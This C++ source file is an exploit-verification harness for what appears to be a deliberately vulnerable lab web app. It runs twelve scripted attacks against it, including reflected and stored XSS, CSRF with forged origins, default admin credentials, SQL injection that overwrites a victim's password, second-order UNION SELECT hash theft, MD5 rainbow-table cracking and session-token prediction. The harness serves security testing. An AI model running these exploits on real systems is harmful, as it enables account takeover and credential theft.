#include "brew/harness.hpp"

#include "brew/crypto.hpp"
#include "brew/http.hpp"
#include "brew/session.hpp"

#include <httplib.h>

#include <regex>
#include <sstream>

namespace brew::harness {

namespace ids = vuln::ids;

std::string_view to_string(Verdict v)
{
    switch (v) {
    case Verdict::Exploited: return "Exploited";
    case Verdict::Blocked: return "Blocked";
    case Verdict::Error: return "Error";
    }
    return "Error";
}

const RainbowTable& RainbowTable::builtin()
{
    static const RainbowTable table = [] {
        RainbowTable t;
        static const std::pair<const char*, const char*> kEntries[] = {
#include "rainbow_table.inc"
        };
        for (const auto& [digest, plain] : kEntries) t.entries_.emplace(digest, plain);
        return t;
    }();
    return table;
}

std::optional<std::string> RainbowTable::lookup(std::string_view md5_hex) const
{
    auto it = entries_.find(md5_hex);
    if (it == entries_.end()) return std::nullopt;
    return it->second;
}

std::optional<std::string> crack_md5(std::string_view hash_hex, const RainbowTable& table)
{
    if (!crypto::is_md5_hex(hash_hex)) {
        throw std::invalid_argument("not an MD5 digest: expected 32 lowercase hex characters");
    }
    return table.lookup(hash_hex);
}

namespace {

// Documented seed accounts; the admin password is not assumed.
constexpr const char* kAttacker = "alice";
constexpr const char* kAttackerPassword = "wonderland";
constexpr const char* kVictim = "bob";
constexpr const char* kVictimPassword = "builder";
constexpr const char* kVictimId = "3";
constexpr const char* kAdminId = "1";

constexpr const char* kXssPayload = "<script>alert('brew-xss')</script>";
constexpr const char* kRedirectTarget = "http://evil.example";
constexpr const char* kErrorProbe = "brew-probe";
constexpr const char* kStoredPayloadHead = "<img src=x onerror=alert('brew-stored-xss')";
constexpr const char* kSqliPassword = "brew-pwned-1";
constexpr const char* kUnionFragment = "' UNION SELECT mpwd FROM M_USER WHERE role='admin";

/// Failure that turns an exploit into Verdict::Error.
struct ProtocolError : std::runtime_error {
    using std::runtime_error::runtime_error;
};

struct Reply {
    int status = 0;
    std::string body;
    httplib::Headers headers;

    std::optional<std::string> header(const std::string& name) const
    {
        auto it = headers.find(name);
        if (it == headers.end()) return std::nullopt;
        return it->second;
    }

    /// Value of the BREWSESSION cookie set by this reply.
    std::optional<std::string> session_cookie() const
    {
        auto range = headers.equal_range("Set-Cookie");
        for (auto it = range.first; it != range.second; ++it) {
            std::string_view v = it->second;
            std::string prefix = std::string(http::kSessionCookie) + "=";
            if (v.starts_with(prefix)) {
                auto end = v.find(';');
                return std::string(v.substr(prefix.size(), end == std::string_view::npos ? end : end - prefix.size()));
            }
        }
        return std::nullopt;
    }

    std::optional<std::string> session_cookie_line() const
    {
        auto range = headers.equal_range("Set-Cookie");
        for (auto it = range.first; it != range.second; ++it) {
            if (it->second.starts_with(http::kSessionCookie)) return it->second;
        }
        return std::nullopt;
    }
};

using Form = std::vector<std::pair<std::string, std::string>>;

/// One attacker browser: a connection to the target, a session cookie and a
/// transcript of the requests made.
class Browser {
public:
    Browser(const std::string& base_url, std::vector<std::string>& steps)
        : base_url_(base_url), cli_(base_url), steps_(steps)
    {
        cli_.set_connection_timeout(5);
        cli_.set_read_timeout(10);
        cli_.set_follow_location(false);
    }

    std::optional<std::string> session;

    Reply get(const std::string& target, httplib::Headers extra = {})
    {
        add_cookie(extra);
        return record("GET", target, cli_.Get(target, extra));
    }

    Reply post(const std::string& path, const Form& form, httplib::Headers extra = {})
    {
        add_cookie(extra);
        std::string body;
        for (const auto& [k, v] : form) {
            if (!body.empty()) body += '&';
            body += http::url_encode(k) + "=" + http::url_encode(v);
        }
        return record("POST", path, cli_.Post(path, extra, body, "application/x-www-form-urlencoded"));
    }

    /// Logs in; true on 302, false on a rejected login (200).
    bool login(const std::string& user, const std::string& password)
    {
        auto r = post("/login.secu", {{"username", user}, {"password", password}});
        if (r.status == 302) {
            if (auto c = r.session_cookie()) session = *c;
            return true;
        }
        if (r.status == 200) return false;
        throw ProtocolError("login returned status " + std::to_string(r.status));
    }

    void note(std::string s) { steps_.push_back(std::move(s)); }

    /// Another browser without cookies, sharing this transcript.
    Browser fresh() const { return Browser(base_url_, steps_); }

private:
    void add_cookie(httplib::Headers& h) const
    {
        if (session) h.emplace("Cookie", std::string(http::kSessionCookie) + "=" + *session);
    }

    Reply record(const std::string& method, const std::string& target, httplib::Result res)
    {
        auto path = target.substr(0, target.find('?'));
        if (!res) {
            steps_.push_back(method + " " + path + " -> transport error");
            throw ProtocolError(method + " " + path + ": " + httplib::to_string(res.error()));
        }
        steps_.push_back(method + " " + path + " -> " + std::to_string(res->status));
        return Reply{res->status, res->body, res->headers};
    }

    std::string base_url_;
    httplib::Client cli_;
    std::vector<std::string>& steps_;
};

ExploitOutcome exploited(std::string evidence) { return {Verdict::Exploited, std::move(evidence), {}}; }
ExploitOutcome blocked(std::string evidence) { return {Verdict::Blocked, std::move(evidence), {}}; }

[[noreturn]] void unexpected(const std::string& what, int status)
{
    throw ProtocolError(what + ": unexpected status " + std::to_string(status));
}

std::string nonce() { return crypto::random_token(4); }

std::optional<std::string> hidden_field(const std::string& html, const std::string& name)
{
    std::regex re("name=\"" + name + "\" value=\"([^\"]*)\"");
    std::smatch m;
    if (std::regex_search(html, m, re)) return m[1].str();
    return std::nullopt;
}

ExploitOutcome xss_search(Browser& b)
{
    auto r = b.post("/search.secu", {{"search", kXssPayload}});
    if (r.status != 200) unexpected("search", r.status);
    if (r.body.find(kXssPayload) != std::string::npos) {
        return exploited(std::string("payload reflected unescaped: ") + kXssPayload);
    }
    if (r.body.find(http::html_escape(kXssPayload)) != std::string::npos) return blocked("payload reflected HTML-escaped");
    return blocked("payload not reflected");
}

ExploitOutcome open_redirect(Browser& b)
{
    auto r = b.get("/redirect.secu?url=" + http::url_encode(kRedirectTarget));
    if (r.status == 302) {
        auto loc = r.header("Location").value_or("");
        if (loc == kRedirectTarget) return exploited("Location: " + loc);
        return blocked("redirected to Location: " + loc);
    }
    if (r.status == 400) return blocked("status 400");
    unexpected("redirect", r.status);
}

ExploitOutcome verbose_errors(Browser& b)
{
    auto r = b.get(std::string("/comments.secu?offset=") + kErrorProbe);
    if (r.status == 200) return blocked("probe handled without error");
    if (r.status != 500) unexpected("error probe", r.status);
    if (r.body.find("SQL error") != std::string::npos || r.body.find("SELECT ") != std::string::npos) {
        auto at = r.body.find("SQL error");
        auto line = at == std::string::npos ? std::string("statement text disclosed")
                                            : r.body.substr(at, r.body.find('\n', at) - at);
        return exploited("500 page discloses internals: " + line);
    }
    return blocked("status 500 with generic error page");
}

ExploitOutcome csrf_profile(Browser& b)
{
    if (!b.login(kAttacker, kAttackerPassword)) throw ProtocolError("seed account login failed");
    auto form = b.get("/profile.secu");
    if (form.status != 200) unexpected("profile form", form.status);
    auto uid = hidden_field(form.body, "uid");
    if (!uid) throw ProtocolError("profile form has no uid field");
    // Cross-site form post: no token, foreign Origin and Referer.
    auto r = b.post("/profile.secu", {{"uname", kAttacker}, {"upwd", kAttackerPassword}, {"uid", *uid}},
                    {{"Origin", kRedirectTarget}, {"Referer", std::string(kRedirectTarget) + "/csrf.html"}});
    if (r.status == 200) return exploited("forged cross-origin profile update accepted without token");
    if (r.status == 403) return blocked("status 403");
    unexpected("forged profile update", r.status);
}

ExploitOutcome default_manager_creds(Browser& b)
{
    auto r = b.get("/manager.secu", {{"Authorization", "Basic " + crypto::base64_encode("admin:admin")}});
    if (r.status == 200) return exploited("status 200 on admin:admin at /manager.secu");
    if (r.status == 404 || r.status == 401) return blocked("status " + std::to_string(r.status));
    unexpected("manager", r.status);
}

/// Plain-user session that can reach the user report, with a crafted account
/// registered first. Returns the report body and the crafted name, or the
/// blocking status.
struct ReportProbe {
    int status = 0;
    std::string body;
    std::string crafted_name;
};

ReportProbe probe_report(Browser& b)
{
    ReportProbe p;
    p.crafted_name = "so" + nonce() + kUnionFragment;
    auto reg = b.post("/register.secu", {{"username", p.crafted_name}, {"password", "brew-second-order"}});
    if (reg.status != 302) unexpected("register", reg.status);
    if (!b.login(kAttacker, kAttackerPassword)) throw ProtocolError("seed account login failed");
    auto r = b.get("/admin/report.secu");
    p.status = r.status;
    p.body = std::move(r.body);
    return p;
}

/// Values in the report cell of the crafted account.
std::vector<std::string> report_cell(const ReportProbe& p)
{
    auto needle = "<tr><td>" + http::html_escape(p.crafted_name) + "</td><td>";
    auto at = p.body.find(needle);
    if (at == std::string::npos) return {};
    at += needle.size();
    auto end = p.body.find("</td>", at);
    std::vector<std::string> out;
    std::stringstream ss(p.body.substr(at, end - at));
    std::string item;
    while (std::getline(ss, item, ',')) {
        auto first = item.find_first_not_of(' ');
        if (first != std::string::npos) out.push_back(item.substr(first));
    }
    return out;
}

bool is_count(const std::string& s) { return !s.empty() && s.find_first_not_of("0123456789") == std::string::npos; }

ExploitOutcome md5_admin_pass(Browser& b)
{
    if (!b.login(kAttacker, kAttackerPassword)) throw ProtocolError("seed account login failed");
    std::optional<std::string> digest;

    auto home = b.get("/home.secu");
    if (home.status != 200) unexpected("home", home.status);
    std::smatch m;
    std::regex debug_re(std::string("<!-- debug: uid=") + kAdminId + " mpwd=([^ ]+) -->");
    if (std::regex_search(home.body, m, debug_re)) {
        b.note("admin digest found in member list markup");
        digest = m[1].str();
    }

    if (!digest) {
        auto probe = probe_report(b);
        if (probe.status == 200) {
            for (const auto& v : report_cell(probe)) {
                if (!is_count(v)) {
                    b.note("admin digest found via user report");
                    digest = v;
                    break;
                }
            }
        }
    }

    if (!digest) return blocked("admin password digest not obtainable");
    if (!crypto::is_md5_hex(*digest)) return blocked("admin digest is not unsalted MD5 (" + digest->substr(0, 14) + "...)");
    auto plain = crack_md5(*digest);
    if (!plain) return blocked("MD5 digest " + *digest + " not in rainbow table");
    b.note("rainbow table lookup succeeded");

    auto admin_browser = b.fresh();
    if (!admin_browser.login("admin", *plain)) return blocked("cracked password rejected at login");
    auto panel = admin_browser.get("/admin.secu");
    if (panel.status != 200) unexpected("admin panel", panel.status);
    return exploited("cracked admin digest " + *digest + " -> '" + *plain + "', admin login succeeded");
}

ExploitOutcome sqli_profile(Browser& b)
{
    if (!b.login(kAttacker, kAttackerPassword)) throw ProtocolError("seed account login failed");
    auto form = b.get("/profile.secu");
    if (form.status != 200) unexpected("profile form", form.status);
    auto own = hidden_field(form.body, "uid");
    if (!own) throw ProtocolError("profile form has no uid field");
    auto csrf = hidden_field(form.body, "csrf");

    // Passes a numeric-prefix ownership check, then rewrites the WHERE clause
    // to select only the victim's row.
    Form attack = {{"uname", kVictim}, {"upwd", kSqliPassword}, {"uid", *own + " AND 0 OR ID=" + kVictimId}};
    if (csrf) attack.emplace_back("csrf", *csrf);
    auto r = b.post("/profile.secu", attack);
    if (r.status == 400 || r.status == 403) return blocked("status " + std::to_string(r.status));
    if (r.status != 200) unexpected("profile update", r.status);

    auto victim = b.fresh();
    if (!victim.login(kVictim, kSqliPassword)) return blocked("victim password unchanged");

    // Restore the victim's documented password through the legitimate form.
    auto vform = victim.get("/profile.secu");
    Form restore = {{"uname", kVictim}, {"upwd", kVictimPassword}, {"uid", kVictimId}};
    if (auto t = hidden_field(vform.body, "csrf")) restore.emplace_back("csrf", *t);
    victim.post("/profile.secu", restore);
    return exploited("victim password overwritten via uid; login as victim succeeded");
}

ExploitOutcome dom_xss_help(Browser& b)
{
    auto page = b.get("/help.secu");
    if (page.status != 200) unexpected("help page", page.status);
    if (page.body.find("/static/help.js") == std::string::npos) throw ProtocolError("help page loads no help.js");
    auto js = b.get("/static/help.js");
    if (js.status != 200) unexpected("help.js", js.status);
    static const std::regex sink(R"(\.innerHTML\s*=)");
    bool reads_hash = js.body.find("location.hash") != std::string::npos;
    if (reads_hash && std::regex_search(js.body, sink)) return exploited("help.js writes location.hash into innerHTML");
    return blocked("help.js renders the fragment as text");
}

ExploitOutcome missing_acl_admin(Browser& b)
{
    auto victim = "acl" + nonce();
    auto reg = b.post("/register.secu", {{"username", victim}, {"password", "brew-acl"}});
    if (reg.status != 302) unexpected("register", reg.status);
    if (!b.login(kAttacker, kAttackerPassword)) throw ProtocolError("seed account login failed");
    auto r = b.post("/admin/users.secu", {{"action", "delete"}, {"user", victim}});
    if (r.status == 403) return blocked("status 403");
    if (r.status != 200) unexpected("user deletion", r.status);

    auto check = b.fresh();
    if (check.login(victim, "brew-acl")) return blocked("account still present after deletion request");
    return exploited("plain user deleted an account via /admin/users.secu");
}

ExploitOutcome stored_xss_comments(Browser& b)
{
    if (!b.login(kAttacker, kAttackerPassword)) throw ProtocolError("seed account login failed");
    auto payload = std::string(kStoredPayloadHead) + " data-n=" + nonce() + ">";
    auto r = b.post("/comments.secu", {{"body", payload}});
    if (r.status != 302) unexpected("comment post", r.status);
    auto list = b.get("/comments.secu");
    if (list.status != 200) unexpected("comment list", list.status);
    if (list.body.find(payload) != std::string::npos) return exploited("stored payload rendered unescaped in comment list");
    if (list.body.find(http::html_escape(payload)) != std::string::npos) return blocked("stored payload rendered HTML-escaped");
    return blocked("stored payload not rendered");
}

/// Hex string + 1, same width.
std::optional<std::string> hex_successor(const std::string& token)
{
    if (token.empty() || token.find_first_not_of("0123456789abcdef") != std::string::npos) return std::nullopt;
    std::string out = token;
    for (auto i = out.size(); i-- > 0;) {
        if (out[i] == 'f') {
            out[i] = '0';
            continue;
        }
        out[i] = out[i] == '9' ? 'a' : static_cast<char>(out[i] + 1);
        return out;
    }
    return std::nullopt;
}

ExploitOutcome weak_session(Browser& b, const std::string& base_url)
{
    auto r = b.post("/login.secu", {{"username", kAttacker}, {"password", kAttackerPassword}});
    if (r.status != 302) unexpected("attacker login", r.status);
    auto token = r.session_cookie();
    if (!token) throw ProtocolError("login set no session cookie");
    if (auto line = r.session_cookie_line(); line && line->find("HttpOnly") == std::string::npos) {
        b.note("session cookie lacks HttpOnly");
    }

    // The victim logs in from another browser.
    std::vector<std::string> victim_steps;
    Browser victim(base_url, victim_steps);
    if (!victim.login(kVictim, kVictimPassword)) throw ProtocolError("victim login failed");
    b.note("victim logged in");

    auto guess = hex_successor(*token);
    if (!guess) return blocked("session token has no successor to predict");
    auto hijack = b.fresh();
    hijack.session = *guess;
    auto home = hijack.get("/home.secu");
    if (home.status == 200 && home.body.find(std::string("<span class=\"user\">") + kVictim + "</span>") != std::string::npos) {
        return exploited("predicted successor session token accepted as the victim's session");
    }
    if (home.status == 200 || home.status == 302) return blocked("predicted successor token rejected");
    unexpected("hijack attempt", home.status);
}

ExploitOutcome second_order_sqli(Browser& b)
{
    auto probe = probe_report(b);
    if (probe.status == 403) return blocked("status 403");
    if (probe.status != 200) unexpected("report", probe.status);
    auto cell = report_cell(probe);
    if (cell.empty()) throw ProtocolError("crafted account missing from report");
    for (const auto& v : cell) {
        if (!is_count(v)) return exploited("report leaked mpwd column through stored account name: " + v);
    }
    return blocked("crafted account name rendered as inert text");
}

}  // namespace

ExploitOutcome run_exploit(std::string_view vuln_id, const std::string& base_url)
{
    ExploitOutcome out;
    try {
        Browser b(base_url, out.steps);
        ExploitOutcome res;
        if (vuln_id == ids::kXssSearch) res = xss_search(b);
        else if (vuln_id == ids::kOpenRedirect) res = open_redirect(b);
        else if (vuln_id == ids::kVerboseErrors) res = verbose_errors(b);
        else if (vuln_id == ids::kCsrfProfile) res = csrf_profile(b);
        else if (vuln_id == ids::kDefaultManagerCreds) res = default_manager_creds(b);
        else if (vuln_id == ids::kMd5AdminPass) res = md5_admin_pass(b);
        else if (vuln_id == ids::kSqliProfile) res = sqli_profile(b);
        else if (vuln_id == ids::kDomXssHelp) res = dom_xss_help(b);
        else if (vuln_id == ids::kMissingAclAdmin) res = missing_acl_admin(b);
        else if (vuln_id == ids::kStoredXssComments) res = stored_xss_comments(b);
        else if (vuln_id == ids::kWeakSession) res = weak_session(b, base_url);
        else if (vuln_id == ids::kSecondOrderSqli) res = second_order_sqli(b);
        else throw std::invalid_argument("unknown vulnerability id '" + std::string(vuln_id) + "'");
        out.verdict = res.verdict;
        out.evidence = std::move(res.evidence);
    } catch (const ProtocolError& e) {
        out.verdict = Verdict::Error;
        out.evidence = e.what();
    }
    return out;
}

ExploitReport verify_build(const vuln::BuildConfig& claimed, const std::string& base_url)
{
    ExploitReport report;
    report.target = base_url;
    report.config_claimed = vuln::ordered(claimed.enabled);

    httplib::Client cli(base_url);
    cli.set_connection_timeout(5);
    auto reseed = [&] {
        auto r = cli.Post("/__reseed");
        return r && r->status == 200;
    };
    bool can_reseed = reseed();

    report.pass = true;
    for (const auto& v : vuln::catalog()) {
        if (can_reseed) reseed();
        ReportRow row;
        row.id = v.id;
        row.expected = claimed.vulnerable(v.id) ? Verdict::Exploited : Verdict::Blocked;
        row.outcome = run_exploit(v.id, base_url);
        report.pass = report.pass && row.ok();
        report.rows.push_back(std::move(row));
    }
    if (can_reseed) reseed();
    return report;
}

std::vector<std::string> payloads(std::string_view vuln_id)
{
    if (vuln_id == ids::kXssSearch) return {kXssPayload};
    if (vuln_id == ids::kOpenRedirect) return {kRedirectTarget};
    if (vuln_id == ids::kVerboseErrors) return {std::string("offset=") + kErrorProbe};
    if (vuln_id == ids::kCsrfProfile) return {std::string(kRedirectTarget) + "/csrf.html"};
    if (vuln_id == ids::kDefaultManagerCreds) return {"admin:admin"};
    if (vuln_id == ids::kMd5AdminPass) return {"letmein", "<!-- debug: uid="};
    if (vuln_id == ids::kSqliProfile) return {" AND 0 OR ID="};
    if (vuln_id == ids::kDomXssHelp) return {"innerHTML"};
    if (vuln_id == ids::kMissingAclAdmin) return {"action=delete"};
    if (vuln_id == ids::kStoredXssComments) return {kStoredPayloadHead};
    if (vuln_id == ids::kWeakSession) return {"successor"};
    if (vuln_id == ids::kSecondOrderSqli) return {kUnionFragment, "UNION SELECT"};
    return {};
}

nlohmann::json to_json(const ExploitOutcome& outcome)
{
    return {{"verdict", to_string(outcome.verdict)}, {"evidence", outcome.evidence}, {"steps", outcome.steps}};
}

nlohmann::json to_json(const ExploitReport& report)
{
    auto rows = nlohmann::json::array();
    for (const auto& r : report.rows) {
        auto j = to_json(r.outcome);
        j["id"] = r.id;
        j["expected"] = to_string(r.expected);
        j["ok"] = r.ok();
        rows.push_back(std::move(j));
    }
    return {{"target", report.target}, {"config_claimed", report.config_claimed}, {"rows", rows}, {"pass", report.pass}};
}

std::string format_report(const ExploitReport& report)
{
    std::ostringstream out;
    out << "target " << report.target << "\n";
    for (const auto& r : report.rows) {
        out << (r.ok() ? "ok   " : "FAIL ") << r.id << ": " << to_string(r.outcome.verdict) << " (expected "
            << to_string(r.expected) << ") - " << r.outcome.evidence << "\n";
    }
    out << (report.pass ? "PASS" : "FAIL") << "\n";
    return out.str();
}

}  // namespace brew::harness
